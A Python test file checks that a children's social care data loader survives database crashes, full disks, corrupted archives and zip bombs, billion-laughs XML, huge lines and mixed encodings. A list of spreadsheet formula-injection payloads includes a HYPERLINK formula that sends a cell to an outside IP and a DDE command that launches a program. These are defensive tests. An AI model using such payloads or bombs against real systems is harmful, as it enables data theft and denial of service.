"""Faults of a load: a clear refusal, nothing lost, nothing doubled, and the process alive."""

import csv
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from hashlib import sha256
from pathlib import Path
from random import Random
from threading import Timer

import psutil
import pytest

from graph import BadInput, Batch, DatabaseAway, EmbeddedNeo4j, Graph, Keyring, Row, Source
from loaders import csv_folder, read, ssd
from loaders.rejects import harmless, private_csv
from signpost.demo.numbers import nhs_numbers
from signpost.watching import Watch
from tests import test_csv_folder, test_gias, test_ods, test_ssd, test_ssda903
from tests.test_kill import EMPTY, LOADER, ROOT, fingerprint
from tests.test_kinds import LAUGHS, zipped
from tests.world import STEWARD, whole

TODAY = date(2026, 11, 20)
LETTERS = "abcdefghijklmnoprstuvwyz"
SOURCE = Source.model_validate(
    {
        "id": "leeds-sc",
        "name": "Leeds",
        "authority": "383",
        "agency": "social care",
        "basis": "public task",
    }
)


def people(many: int) -> Iterator[str]:
    """So many children with names of their own."""
    random = Random(5)
    for number, (nhs, _) in zip(range(many), nhs_numbers(random), strict=False):
        family, given = ("".join(random.choices(LETTERS, k=7)).title() for _ in range(2))
        yield f"C{number},{nhs},{family},{given},{random.randint(2010, 2020)}-01-{number % 28 + 1:02}"


def extract(place: Path, children: int = 1500, each: int = 4) -> Path:
    """A CSV folder of children, each with some involvements."""
    ties = (
        f"I{n}-{m},C{n},T1,2021-01-{m % 28 + 1:02}" for n in range(children) for m in range(each)
    )
    return test_csv_folder.folder(
        place,
        services="service,name,agency\nT1,Leeds Front Door,social care\n",
        children="\n".join(
            ("child,nhs_number,family_name,given_name,birth_date", *people(children), "")
        ),
        involvements="\n".join(("involvement,child,service,from", *ties, "")),
    )


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An extract of 400 children with 8,000 involvements, which are written in two transactions."""
    return extract(tmp_path_factory.mktemp("in") / "leeds", children=400, each=20)


@pytest.fixture
def door(graph: Graph) -> Graph:
    """The graph, with the source."""
    graph.load(STEWARD, SOURCE)
    return graph


def batch_of(folder: Path) -> Batch:
    return csv_folder.read(folder, SOURCE.id, TODAY)


def in_peace(door: Graph, bare: Callable[..., list], folder: Path) -> list[tuple]:
    """What a load leaves that nobody disturbs; the graph is as it was before."""
    door.load(STEWARD, batch_of(folder))
    left = fingerprint(bare)
    bare(EMPTY)
    door.load(STEWARD, SOURCE)
    return left


def digest(rows: list[tuple]) -> str:
    """One word for what a graph holds."""
    return sha256(repr(rows).encode()).hexdigest()


def kill(server: EmbeddedNeo4j) -> None:
    """Kill -9 the database."""
    process = psutil.Process(server.status().pid)
    process.kill()
    process.wait()


def stop(server: EmbeddedNeo4j) -> None:
    server.stop()


def interrupted(door: Graph, folder: Path, moment: str, end: Callable[[], None]) -> None:
    """A load under which the database goes away at a moment."""
    batch, late = batch_of(folder), Timer(0.05, end)

    def rows() -> Iterator[Row]:
        for number, row in enumerate(batch_of(folder).stream):
            if number == 4000:
                end()
            yield row

    def written(what: str, done: int, total: int) -> None:
        if what == "children" and moment == "between two writes":
            end()
        if what == "children" and moment == "within a write":
            late.start()

    if moment == "while it is read":
        batch = batch.model_copy(update={"stream": rows()})
    try:
        door.load(STEWARD, batch, progress=written)
    finally:
        if late.ident:
            late.join()


@pytest.mark.parametrize(
    ("moment", "end"),
    [
        ("while it is read", stop),
        ("between two writes", stop),
        ("between two writes", kill),
        ("within a write", kill),
    ],
)
def test_the_database_restarted_under_a_load(
    door: Graph, bare, server: EmbeddedNeo4j, folder: Path, moment: str, end
) -> None:
    wanted = in_peace(door, bare, folder)
    try:
        with pytest.raises(DatabaseAway):
            interrupted(door, folder, moment, lambda: end(server))
    finally:
        server.stop()
        server.start()
    report = door.load(STEWARD, batch_of(folder))
    assert report.read == 1 + 400 + 8000
    assert (report.changed, report.ended, report.rejected) == (0, 0, 0)
    assert fingerprint(bare) == wanted
    again = door.load(STEWARD, batch_of(folder))
    assert (again.new, again.changed, again.ended) == (0, 0, 0)


FULL = "import resource; resource.setrlimit(resource.RLIMIT_FSIZE, (4_000_000, 4_000_000))\n"


def test_a_full_disk_is_a_sentence_and_the_load_can_be_run_again(
    door: Graph, bare, server: EmbeddedNeo4j, keyring: Keyring, tmp_path: Path
) -> None:
    """No file of the process may grow beyond 4 MB, and the rows that wait do not fit into memory."""
    path = extract(tmp_path / "in", children=1500, each=25)
    keyring.write(tmp_path / "keyring.json")
    made = server.connection()
    words = [made.uri, made.user, made.password, tmp_path / "keyring.json", "csv", path, SOURCE.id]
    ended = subprocess.run(
        [sys.executable, "-c", FULL + LOADER, *map(str, words)],
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    assert "LoadStopped: The folder for temporary files is full" in ended.stderr
    assert "done" not in ended.stdout
    assert bare("MATCH (c:Child) RETURN count(c) AS n") == [{"n": 0}]
    assert door.load(STEWARD, batch_of(path)).new == 1 + 1500 + 37_500


def test_a_full_disk_under_a_check_is_a_sentence(tmp_path: Path) -> None:
    path = extract(tmp_path / "in", children=1500, each=25)
    code = (
        f"{FULL}from datetime import date\nfrom pathlib import Path\nfrom graph import check\n"
        f"from loaders import read\npath = Path({str(path)!r})\n"
        f"check(read('csv', path, 'leeds-sc', date(2026, 11, 20)), '383')"
    )
    ended = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT)
    assert "LoadStopped: The folder for temporary files is full" in ended.stderr


def test_rejects_that_do_not_fit_the_disk_are_a_sentence_and_leave_no_half(tmp_path: Path) -> None:
    code = (
        f"{FULL}from pathlib import Path\nfrom loaders.rejects import private_csv\n"
        f"private_csv(Path({str(tmp_path / 'a.csv')!r}), (['x' * 1000] for _ in range(9000)))"
    )
    ended = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=False
    )
    assert "BadInput: a.csv cannot be written to its end: make room for it" in ended.stderr
    assert not (tmp_path / "a.csv").exists()


def test_a_full_disk_under_the_database_is_a_sentence_and_breaks_nothing(
    door: Graph, bare, keyring: Keyring, folder: Path, tmp_path: Path
) -> None:
    """The database has a disk of its own, that is full but for a megabyte, until it gets room."""
    own = ["unshare", "--user", "--map-root-user", "--mount"]
    home, keys = tmp_path / "home", tmp_path / "keyring.json"
    home.mkdir()
    if subprocess.run([*own, "mount", "-t", "tmpfs", "tmpfs", home], check=False).returncode:
        pytest.skip("this machine gives nobody a disk of their own")
    keyring.write(keys)
    ran = subprocess.run(
        [*own, sys.executable, "-m", "tests.full_disk", home, keys, folder],
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )
    *refused, loaded, again, left = ran.stdout.splitlines()
    assert len(refused) == 3, ran.stderr
    assert all(one.startswith("DatabaseAway The disk of the database is full") for one in refused)
    rows = 1 + 400 + 8000
    new = int(loaded.split()[1])
    assert new > 0
    assert (loaded, again) == (f"{rows} {new} 0", f"{rows} 0 0")
    assert left == digest(in_peace(door, bare, folder))


def ssd_zip(at: Path, rows: int = 2000) -> Path:
    """A zip of the SSD, of which no two rows are alike."""
    many = [{"involvements_id": n, "invo_involvement_start_date": ""} for n in range(rows)]
    ties = [{"involvements_id": one["involvements_id"]} for one in many]
    return zipped(test_ssd.extract(at / "ssd", **test_ssd.STAFF, ssd_involvements=ties))


def broken_inside(at: Path) -> Path:
    """A zip whose list of files is whole, with some bytes of its largest one gone."""
    path = ssd_zip(at)
    with zipfile.ZipFile(path) as archive:
        part = max(archive.infolist(), key=lambda one: one.compress_size)
    data = bytearray(path.read_bytes())
    middle = part.header_offset + part.compress_size // 2
    data[middle : middle + 64] = bytes(64)
    path.write_bytes(data)
    return path


def truncated(at: Path) -> Path:
    path = ssd_zip(at)
    path.write_bytes(path.read_bytes()[:-400])
    return path


def bomb(at: Path) -> Path:
    """A table of 300 MB that is packed into 300 kB."""
    path = at / "ssd.zip"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("a.csv", "w", force_zip64=True) as part,
    ):
        part.write(b"pers_person_id,pers_dob\n")
        for _ in range(300):
            part.write(b"1,2015-06-09\n" * 80_000)
    return path


def lying_bomb(at: Path) -> Path:
    """The same, whose list of files says that it is small."""
    path = bomb(at)
    with zipfile.ZipFile(path) as archive:
        size = archive.getinfo("a.csv").file_size
    small = (1000).to_bytes(4, "little")
    path.write_bytes(path.read_bytes().replace(size.to_bytes(4, "little"), small))
    return path


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (truncated, "ssd.zip is not a whole zip file"),
        (broken_inside, "ssd.zip is not a whole zip file"),
        (bomb, "ssd.zip holds a file packed more than 200 times"),
        (lying_bomb, "ssd.zip is not a whole zip file"),
    ],
)
def test_a_zip_that_is_broken_or_a_bomb_loads_nothing(
    door: Graph, bare, tmp_path: Path, make: Callable[[Path], Path], says: str
) -> None:
    with pytest.raises(BadInput, match=says):
        door.load(STEWARD, ssd.read(make(tmp_path), SOURCE.id, TODAY))
    assert bare("MATCH (n:Child|Load) RETURN count(n) AS n") == [{"n": 0}]


@pytest.mark.parametrize("kind", ["cin", "ssda903", "cpis", "ods"])
def test_billion_laughs_are_refused(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "laughs.xml"
    root = {"cin": b"Message", "ssda903": b"EXPSSDA903"}.get(kind, b"Bundle")
    path.write_bytes(LAUGHS.replace(b"Message", root))
    began = time.monotonic()
    with pytest.raises(BadInput, match=r"DTD|no NHS organisations"):
        list(read(kind, path, SOURCE.id, TODAY).rows())
    assert time.monotonic() - began < 5


FORMULAS = (
    '=HYPERLINK("http://198.51.100.7/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
    "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "\uff0b1", "-", "+44 113 496 0101", "=", '"=1+1"',
)  # fmt: skip


def test_a_formula_in_a_name_is_refused_and_said_without_it(door: Graph, tmp_path: Path) -> None:
    rows = [["child", "family_name", "given_name", "birth_date"]]
    rows += [[f"C{n}", cell, "Chidi", "2015-06-09"] for n, cell in enumerate(FORMULAS)]
    (tmp_path / "in").mkdir()
    with (tmp_path / "in" / "children.csv").open("w", newline="") as file:
        csv.writer(file).writerows([*rows, ["C99", "Okafor", "Chidi", "2015-06-09"]])
    batch = batch_of(tmp_path / "in")
    report = door.load(STEWARD, batch)
    assert (report.new, report.rejected) == (1 + 1, len(FORMULAS) - 1), "a hyphen is a name's sign"
    assert not any(sign in str(fault) for fault in report.faults for sign in "=+@")
    kept = csv_folder.reject(tmp_path / "in", batch.faults, tmp_path / "out")
    assert kept
    with (kept / "children.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if live(cell)]
    again = whole(batch_of(kept))
    assert [(f.column, f.sentence) for f in again.faults] == [
        (f.column, f.sentence) for f in batch.faults
    ]


def live(cell: str) -> bool:
    """Whether a spreadsheet might run a cell, by the list of OWASP: what blanks it drops are before it."""
    return cell.lstrip(" \t\r\n")[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize(
    "cell", [*FORMULAS, "", " ", "Okafor", "a=b", "'=1", "\u00a0=1", "2015-06-09"]
)
def test_what_is_guarded_reads_as_it_was_and_is_guarded_once(cell: str) -> None:
    assert harmless(cell).strip() == cell.strip()
    assert not live(harmless(cell))
    assert harmless(harmless(cell)) == harmless(cell)
    assert harmless(None) is None


def test_a_guarded_telephone_loads_as_it_was(tmp_path: Path) -> None:
    cells = ["T1", "Leeds Front Door", "social care", "+441134960101", "2026-13-01"]
    text = "service,name,agency,duty_line,confirmed_on\n" + ",".join(cells)
    batch = whole(batch_of(test_csv_folder.folder(tmp_path / "in", services=text)))
    kept = csv_folder.reject(tmp_path / "in", batch.faults, tmp_path / "out")
    assert kept
    file = kept / "services.csv"
    assert "\u00a0+441134960101" in file.read_text()
    file.write_text(file.read_text().replace("2026-13-01", "2026-11-01"))
    (row,) = whole(batch_of(kept)).services
    plain = text.replace("2026-13-01", "2026-11-01")
    (wanted,) = whole(batch_of(test_csv_folder.folder(tmp_path / "plain", services=plain))).services
    assert row.service == wanted.service


@pytest.mark.parametrize("kind", ["ssd", "ssda903", "gias", "ods"])
def test_every_kind_of_csv_reads_a_guarded_file_as_the_plain_one(tmp_path: Path, kind: str) -> None:
    """Each cell but days and numbers with a guard before it, which is more than is ever written."""
    make: dict[str, Callable[[Path], Path]] = {
        "ssd": lambda at: test_ssd.extract(at, **test_ssd.STAFF, ssd_involvements=[{}]),
        "ssda903": lambda at: test_ssda903.folder(
            at, header=test_ssda903.KNOWN, episodes=[test_ssda903.ep("02/12/2018")]
        ),
        "gias": lambda at: test_gias.schools_file(at / "a.csv", test_gias.ELM).parent,
        "ods": lambda at: test_ods.report(at / "a.csv", test_ods.line()).parent,
    }
    (tmp_path / "guarded").mkdir()
    plain = make[kind](tmp_path / "plain")
    for file in plain.iterdir():
        with file.open(newline="") as text:
            lines = list(csv.reader(text))
        for line in lines[kind != "ods" :]:
            line[:] = [cell if not cell or cell.isdigit() else f"\u00a0{cell}" for cell in line]
        private_csv(tmp_path / "guarded" / file.name, lines)

    def said(path: Path) -> list[str]:
        batch = read(kind, path, SOURCE.id, TODAY)
        rows = [row.model_dump_json() for row in batch.rows()]
        assert rows
        assert not batch.faults
        return rows

    assert said(tmp_path / "guarded") == said(plain)


ACCENTS = [{"person_id": n, "surname": name} for n, name in enumerate(("Siobhán", "Núñez", "Zoë"))]


def test_mixed_encodings_are_read_file_by_file_and_line_by_line(tmp_path: Path) -> None:
    """A file of lines in two encodings, as two exports that were put together; UTF-16; a byte order mark."""
    tables = {**test_ssd.STAFF, "ssd_person": ACCENTS, "ssd_involvements": [{"person_id": 1}]}
    plain = test_ssd.extract(tmp_path / "plain", **tables)
    mixed = test_ssd.extract(tmp_path / "mixed", **tables)
    for number, file in enumerate(sorted(mixed.iterdir())):
        text = file.read_text()
        if "Siobh" in text:
            lines = text.splitlines(keepends=True)
            coded = [line.encode("cp1252" if n % 2 else "utf-8") for n, line in enumerate(lines)]
            file.write_bytes(b"".join(coded))
        else:
            file.write_text(text, encoding=("utf-16", "utf-8-sig", "utf-8")[number % 3])
    wanted, found = (whole(ssd.read(path, SOURCE.id, TODAY)) for path in (plain, mixed))
    assert {row.identity.family_name for row in found.children} == {"Siobhán", "Núñez", "Zoë"}
    assert not found.faults
    assert [r.model_dump() for r in found.rows()] == [r.model_dump() for r in wanted.rows()]


def test_our_own_csv_in_another_encoding_names_the_line(door: Graph, bare, tmp_path: Path) -> None:
    rows = [f"C{n},Siobhán,2015-06-09" for n in range(3)]
    text = "\n".join(("child,family_name,birth_date", *rows))
    data = text.encode().replace("á".encode(), b"\xe1").replace(b"\xe1", "á".encode(), 2)
    path = test_csv_folder.folder(tmp_path / "in", children=data)
    with pytest.raises(BadInput, match=r"children\.csv, line 4: is not UTF-8"):
        door.load(STEWARD, batch_of(path))
    assert bare("MATCH (n:Child|Load) RETURN count(n) AS n") == [{"n": 0}]


HUGE = """
import sys
from datetime import date
from pathlib import Path
from graph import BadInput
from loaders import LOADERS, kind_of
from tests.peak import megabytes
path = Path(sys.argv[1])
for kind, loader in LOADERS.items():
    try:
        list(loader.read(path, "any", date(2026, 11, 20)).rows())
        print("taken by", kind)
    except BadInput as problem:
        assert len(str(problem)) < 500
try:
    print("of kind", kind_of(path)[0])
except BadInput:
    pass
print("alive", megabytes())
"""
BEGINNINGS = {
    "nothing": b"",
    "ssd": b"pers_person_id,pers_dob\n1,",
    "ssda903": b"CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\nC1,",
    "gias": b"URN,LinkURN,LinkName,LinkType,LinkEstablishedDate\n1,",
    "ods": b'"A81001","THE SURGERY","',
    "cin": b"<Message><Header>",
    "ssda903 xml": b"<EXPSSDA903><CHILD><HEADER><CHILDID>",
    "cpis": b'{"resourceType": "Bundle", "entry": [{"a": "',
    "episodes": b'{"@graph": [{"@type": "ServiceEpisode", "a": "',
    "openreferral": b'{"contents": [{"id": "1", "name": "',
    "utf-16": b"\xff\xfe",
    "zip": b"PK\x03\x04",
}


@pytest.mark.parametrize("what", BEGINNINGS)
def test_a_line_of_2_gb_is_refused_in_little_memory(tmp_path: Path, what: str) -> None:
    """The file is sparse: it takes no room on the disk, and is as long as it says."""
    path = tmp_path / "data"
    path.write_bytes(BEGINNINGS[what])
    with path.open("r+b") as file:
        file.truncate(2**31)
    alive(path)


def test_a_line_of_2_gb_in_our_own_csv_is_refused_in_little_memory(tmp_path: Path) -> None:
    path = test_csv_folder.folder(tmp_path / "in", homes=test_csv_folder.HOMES) / "homes.csv"
    with path.open("r+b") as file:
        file.truncate(2**31)
    assert "of kind csv" in alive(path.parent)
    with pytest.raises(BadInput, match=r"homes\.csv, line 2: is longer than 1 MB"):
        list(batch_of(path.parent).rows())


def alive(path: Path) -> str:
    """What a process says that tries every loader on a path: it ends well, and its memory stays small."""
    ended = subprocess.run(
        [sys.executable, "-c", HUGE, str(path)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert ended.returncode == 0, ended.stderr
    assert "taken by" not in ended.stdout
    assert int(ended.stdout.split("alive ")[1]) < 400
    return ended.stdout


def test_a_watch_outlives_all_of_them_and_loads_what_is_good(
    door: Graph, bare, tmp_path: Path
) -> None:
    box = tmp_path / "incoming" / SOURCE.id
    box.mkdir(parents=True)
    for number, make in enumerate((truncated, broken_inside, bomb, lying_bomb)):
        (tmp_path / str(number)).mkdir()
        make(tmp_path / str(number)).rename(box / f"{number} 2026-11-20.zip")
    (box / "laughs 2026-11-20.xml").write_bytes(LAUGHS)
    line = box / "line 2026-11-20.csv"
    line.write_bytes(BEGINNINGS["ssd"])
    with line.open("r+b") as file:
        file.truncate(2**31)
    odd = b"child,family_name\nC1,Siobh\xe1n\n"
    test_csv_folder.folder(box / "one 2026-11-20", children=odd)
    folder_of = extract(box / "good 2026-11-20")
    said: list[str] = []
    Watch(box.parent, 0.0, said.append).turn(lambda batch: door.load(STEWARD, batch))
    assert len(list((box / "failed").iterdir())) == 7
    assert next(line for line in said if " done/" in line).endswith(
        "7,501 read, 7,501 new, 0 changed, 0 unchanged, 0 ended, 0 rejected, 0 for review, 0 joined"
    )
    assert not folder_of.exists()
    assert bare("MATCH (c:Child) RETURN count(c) AS n") == [{"n": 1500}]
